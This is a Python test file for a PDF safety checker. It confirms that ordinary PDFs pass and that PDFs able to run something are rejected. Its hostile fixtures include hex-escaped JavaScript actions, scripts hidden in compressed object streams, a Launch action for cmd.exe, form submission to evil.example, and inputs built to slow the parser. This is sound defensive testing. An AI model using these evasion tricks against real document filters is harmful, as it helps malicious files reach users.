"""Which PDFs are shown: papers, and nothing that could run (T36)."""

from __future__ import annotations

import random
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enroll_web import still_pdf
from enroll_web.still_pdf import is_still
from tests.services.hostile import PDF, pdf


def packed(content: bytes, *, described: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    """An object that holds others."""
    inside = zlib.compress(content)
    return b"<<" + described + b"/Length %d>>stream\n%s\nendstream" % (len(inside), inside)


@pytest.mark.parametrize(
    "paper",
    [
        pdf(),
        pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
        pdf(catalog=b"/Lang(de)/Names<</Dests 7 0 R>>"),
        pdf(further=(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>",)),
        pdf(further=(packed(b"8 0 <</Type/Font/Subtype/Type1>>"),)),
        pdf(further=(packed(b"8 0 <<>>", described=b"/Type /ObjStm /Filter [ /FlateDecode ]"),)),
        pdf(further=(b"<</Type/XObject/Filter/DCTDecode/Length 4>>stream\n\xff\xd8/J\nendstream",)),
        pdf(further=(b"<</Title(about /JSON and /AAA)>>",)),
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + pdf().removeprefix(b"%PDF-1.7\n"),
    ],
    ids=lambda data: str(len(data)),
)
def test_papers_are_shown(paper: bytes) -> None:
    """Pages, links, fonts, pictures, a place to begin at, and objects packed as programs pack them."""
    assert is_still(paper)


HOSTILE = {
    "script": PDF,
    "escaped name": pdf(action=b"<</S/J#61vaScript/#4a#53(app.alert\\(1\\))>>"),
    "upper-case escape": pdf(action=b"<</S/JavaScr#69pt/#4A#53 7 0 R>>"),
    "name tree": pdf(catalog=b"/Names<</JavaScript 7 0 R>>"),
    "additional action": pdf(catalog=b"/AA<</WC 7 0 R>>"),
    "packed": pdf(further=(packed(b"8 0 <</S/JavaScript/JS(x)>>"),)),
    "packed, escaped": pdf(further=(packed(b"8 0 <</S/Java#53cript>>"),)),
    "packed, type escaped": pdf(
        further=(packed(b"8 0 <</JS(x)>>", described=b"/Type/#4fbjStm/First 4/Filter/FlateDecode"),)
    ),
    "packed, no type": pdf(
        further=(packed(b"8 0 <</JS(x)>>", described=b"/N 1/First 4/Filter/FlateDecode"),)
    ),
    "packed, other filter": pdf(further=(packed(b"8 0 <<>>", described=b"/Type/ObjStm/Filter/LZWDecode"),)),
    "packed twice": pdf(
        further=(packed(b"8 0 <<>>", described=b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]"),)
    ),
    "packed, filter elsewhere": pdf(further=(packed(b"8 0 <<>>", described=b"/Type/ObjStm/Filter 9 0 R"),)),
    "packed, predictor": pdf(
        further=(
            packed(b"8 0 <<>>", described=b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>"),
        )
    ),
    "packed, two filters": pdf(
        further=(packed(b"8 0 <<>>", described=b"/Type/ObjStm/Filter/FlateDecode/Filter/LZWDecode"),)
    ),
    "packed, broken": pdf(further=(b"<</Type/ObjStm/Filter/FlateDecode>>stream\nnothing\nendstream",)),
    "packed, cut": pdf(further=(packed(b"8 0 <<>>")[:-24] + b"\nendstream",)),
    "packed, decoy in a comment": pdf(
        further=(
            b"<</Type/ObjStm/First 4/Filter/FlateDecode\n%stream\n/X 1>>stream\n"
            + zlib.compress(b"/JS")
            + b"\nendstream",
        )
    ),
    "packed, an end in a comment": pdf(
        further=(packed(b"8 0 <</JS(x)>>", described=b"/Type/ObjStm/First 4/Filter/FlateDecode\n%endobj\n"),)
    ),
    "packed, an end in a text": pdf(
        further=(
            packed(b"8 0 <</JS(x)>>", described=b"/Type/ObjStm/First 4/Filter/FlateDecode/X(endstream)"),
        )
    ),
    "packed, under another object": pdf(
        further=(b"<</Type/ObjStm/First 4/Filter/FlateDecode", packed(b"8 0 <</JS(x)>>", described=b"/A 1"))
    ),
    "packed, a blank behind": pdf(further=(packed(b"8 0 <</JS(x)>>").replace(b"stream\n", b"stream \n", 1),)),
    "packed, another line end": pdf(
        further=(packed(b"8 0 <</JS(x)>>").replace(b"stream\n", b"stream\r", 1),)
    ),
    "packed, an end in it": pdf(
        further=(
            b"<</Type/ObjStm/First 4/Filter/FlateDecode>>stream\n"
            + zlib.compress(b"endstream" + b"8 0 <</JS(x)>>", 0)
            + b"\nendstream",
        )
    ),
    "encrypted": pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 7 0 R"),
    "opened": pdf(action=b"<</S/URI/URI(https://evil.example)>>"),
    "sent": pdf(further=(b"<</S/SubmitForm/F(https://evil.example)>>",)),
    "started": pdf(further=(b"<</S/Launch/F(cmd.exe)>>",)),
    "form": pdf(catalog=b"/AcroForm<</XFA 7 0 R>>"),
    "at the end": pdf() + b"\n/JS",
    "not one": b"<html><script>alert(1)</script>",
    "later": b"\n" + pdf(),
    "empty": b"",
}


@pytest.mark.parametrize("how", HOSTILE)
def test_what_could_run_is_not_shown(how: str) -> None:
    """T36: however it is spelled or packed; what cannot be looked through counts as if it ran."""
    assert not is_still(HOSTILE[how])


@given(st.binary(max_size=300), st.integers(0, 400))
def test_nothing_is_too_strange(noise: bytes, at: int) -> None:
    """Any bytes anywhere: an answer, no error; and a script beside them is found all the same."""
    good, bad = pdf(), PDF
    is_still(good[:at] + noise + good[at:])
    assert not is_still(bad + noise)
    assert not is_still(bad[:60] + noise.replace(b"%", b"") + bad[60:])


def test_long_ones(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither longer than is looked through, nor packed so that it would be."""
    long = pdf(further=(packed(bytes(100_000)),))
    assert is_still(long)
    monkeypatch.setattr(still_pdf, "MAX_INFLATED_BYTES", 50_000)
    assert not is_still(long)
    monkeypatch.setattr(still_pdf, "MAX_INFLATED_BYTES", 2**20)
    monkeypatch.setattr(still_pdf, "MAX_BYTES", len(long) - 1)
    assert not is_still(long)


@pytest.mark.parametrize("kind", ["noise", "slashes", "streams", "hashes", "objects", "packed"])
def test_it_takes_no_time(kind: str) -> None:
    """T36: no content makes the look long: some seconds would be too many."""
    filling = {
        "noise": random.Random(1).randbytes(2**20) * 8,
        "slashes": b"/" * 2**23,
        "streams": b"stream\n" * 2**17,
        "hashes": b"/#4#4#4a" * 2**20,
        "objects": b"endobj stream\n" * 2**19,
        "packed": (b"endobj " + packed(b"1")) * 2**14,
    }[kind]
    began = time.thread_time()
    is_still(pdf() + filling)
    assert time.thread_time() - began < 5
